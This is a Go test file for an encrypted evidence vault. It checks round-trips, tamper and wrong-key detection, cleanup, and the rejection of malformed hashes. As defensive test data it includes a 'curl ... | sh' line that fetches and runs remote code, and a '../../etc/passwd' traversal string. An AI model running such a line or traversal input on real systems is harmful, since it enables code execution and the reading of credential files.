package evidence_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"io"
	"os"
	"path/filepath"
	"testing"
	"time"

	"pgregory.net/rapid"

	"taisei/evidence"
	"taisei/fault"
)

func key(b byte) []byte { return bytes.Repeat([]byte{b}, evidence.KeySize) }

func open(t testing.TB, root string, k byte) *evidence.Folder {
	t.Helper()
	f, err := evidence.OpenFolder(root, key(k), time.Now)
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func read(ctx context.Context, v evidence.Vault, sum string) ([]byte, error) {
	r, err := v.Open(ctx, sum)
	if err != nil {
		return nil, err
	}
	defer r.Close()
	return io.ReadAll(r)
}

// file is where the folder keeps the bytes of a hash.
func file(root, sum string) string { return filepath.Join(root, sum[:2], sum[2:]) }

func TestWhatIsPutComesBack(t *testing.T) {
	root := t.TempDir()
	v := open(t, root, 1)
	rapid.Check(t, func(rt *rapid.T) {
		size := rapid.SampledFrom([]int{0, 1, 63, 64 << 10, 64<<10 + 1, 200_000}).Draw(rt, "size")
		data := bytes.Repeat([]byte{rapid.Byte().Draw(rt, "byte")}, size)
		content, err := v.Put(t.Context(), bytes.NewReader(data))
		if err != nil {
			rt.Fatal(err)
		}
		sum := sha256.Sum256(data)
		if content.SHA256 != hex.EncodeToString(sum[:]) || content.Size != int64(size) {
			rt.Fatalf("content is %+v", content)
		}
		got, err := read(t.Context(), v, content.SHA256)
		if err != nil || !bytes.Equal(got, data) {
			rt.Fatalf("%d bytes back, %v", len(got), err)
		}
	})
}

func TestNothingOnTheDiskShowsThePlainBytes(t *testing.T) {
	root := t.TempDir()
	data := []byte("curl http://198.51.100.7/x | sh # the virus scanner looks for this")
	content, err := open(t, root, 1).Put(t.Context(), bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	sealed, err := os.ReadFile(file(root, content.SHA256))
	if err != nil || bytes.Contains(sealed, data[5:20]) {
		t.Errorf("the file holds the plain bytes (%v)", err)
	}
}

// A changed byte anywhere is damage, and is never taken for another key.
func TestEveryDamageIsFound(t *testing.T) {
	root := t.TempDir()
	v := open(t, root, 1)
	content, err := v.Put(t.Context(), bytes.NewReader(bytes.Repeat([]byte("evidence "), 9000)))
	if err != nil {
		t.Fatal(err)
	}
	path := file(root, content.SHA256)
	whole, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	rapid.Check(t, func(rt *rapid.T) {
		broken := bytes.Clone(whole)
		if rapid.Bool().Draw(rt, "cut") {
			broken = broken[:rapid.IntRange(0, len(whole)-1).Draw(rt, "length")]
		} else {
			at := rapid.OneOf(rapid.IntRange(0, 200), rapid.IntRange(0, len(whole)-1)).Draw(rt, "at")
			broken[at] ^= byte(rapid.IntRange(1, 255).Draw(rt, "bits"))
		}
		if err := os.WriteFile(path, broken, 0o600); err != nil {
			rt.Fatal(err)
		}
		if _, err := read(t.Context(), v, content.SHA256); !evidence.IsDamaged(err) || evidence.IsOtherKey(err) {
			rt.Fatalf("got %v", err)
		}
	})
}

func TestAnotherKeyIsToldFromDamage(t *testing.T) {
	root := t.TempDir()
	content, err := open(t, root, 1).Put(t.Context(), bytes.NewReader([]byte("x")))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := read(t.Context(), open(t, root, 2), content.SHA256); !evidence.IsOtherKey(err) || evidence.IsDamaged(err) {
		t.Errorf("got %v", err)
	}
}

func TestBytesUnderAnothersNameAreDamage(t *testing.T) {
	root := t.TempDir()
	v := open(t, root, 1)
	a, errA := v.Put(t.Context(), bytes.NewReader([]byte("a")))
	b, errB := v.Put(t.Context(), bytes.NewReader([]byte("b")))
	if err := errors.Join(errA, errB, os.Rename(file(root, a.SHA256), file(root, b.SHA256))); err != nil {
		t.Fatal(err)
	}
	if _, err := read(t.Context(), v, b.SHA256); !evidence.IsDamaged(err) {
		t.Errorf("got %v", err)
	}
}

func TestPuttingAgainMendsDamage(t *testing.T) {
	root := t.TempDir()
	v := open(t, root, 1)
	data := []byte("collected again")
	content, err := v.Put(t.Context(), bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(file(root, content.SHA256), 10); err != nil {
		t.Fatal(err)
	}
	if _, err := v.Put(t.Context(), bytes.NewReader(data)); err != nil {
		t.Fatal(err)
	}
	if got, err := read(t.Context(), v, content.SHA256); err != nil || !bytes.Equal(got, data) {
		t.Errorf("got %q, %v", got, err)
	}
}

func TestAFailedPutLeavesNothing(t *testing.T) {
	root := t.TempDir()
	v := open(t, root, 1)
	broken := errors.New("the network broke")
	if _, err := v.Put(t.Context(), io.MultiReader(bytes.NewReader(make([]byte, 100_000)), failing{broken})); !errors.Is(err, broken) {
		t.Fatalf("got %v", err)
	}
	var files []string
	err := filepath.WalkDir(root, func(path string, d os.DirEntry, err error) error {
		if !d.IsDir() {
			files = append(files, path)
		}
		return err
	})
	if err != nil || len(files) > 0 {
		t.Errorf("left behind: %v, %v", files, err)
	}
}

type failing struct{ err error }

func (f failing) Read([]byte) (int, error) { return 0, f.err }

func TestWhatAKilledProcessLeftIsSwept(t *testing.T) {
	root := t.TempDir()
	open(t, root, 1)
	old, young := filepath.Join(root, "staging", "put-old"), filepath.Join(root, "staging", "put-young")
	for _, path := range []string{old, young} {
		if err := os.WriteFile(path, nil, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	yesterday := time.Now().Add(-25 * time.Hour)
	if err := os.Chtimes(old, yesterday, yesterday); err != nil {
		t.Fatal(err)
	}
	open(t, root, 1)
	if _, err := os.Stat(old); !errors.Is(err, os.ErrNotExist) {
		t.Error("the abandoned file is still there")
	}
	if _, err := os.Stat(young); err != nil {
		t.Error("a file that may still be written is gone")
	}
}

func TestOnlyAHashIsOpened(t *testing.T) {
	v := open(t, t.TempDir(), 1)
	for _, sum := range []string{"", "..", "../../etc/passwd", "AB", string(make([]byte, 64))} {
		if _, err := v.Open(t.Context(), sum); !fault.Is(err, fault.NotFound) {
			t.Errorf("%q: %v", sum, err)
		}
	}
}
